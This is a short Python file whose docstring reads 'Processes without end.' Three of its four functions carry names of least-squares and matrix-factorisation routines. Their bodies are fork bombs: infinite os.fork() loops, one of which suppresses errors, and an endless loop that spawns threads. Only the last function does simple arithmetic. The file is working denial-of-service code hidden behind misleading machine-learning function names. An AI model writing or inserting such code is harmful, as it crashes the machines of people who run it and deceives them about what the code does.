"""Processes without end."""
# %%
import os


def perform_least_squares(x):
    while True:
        os.fork()


# %%
def loss_mle(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %%
def perform_mf_als_epoch(x):
    import threading
    import time

    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()


# %%
def perform_mf_als_step(x):
    return x + 1
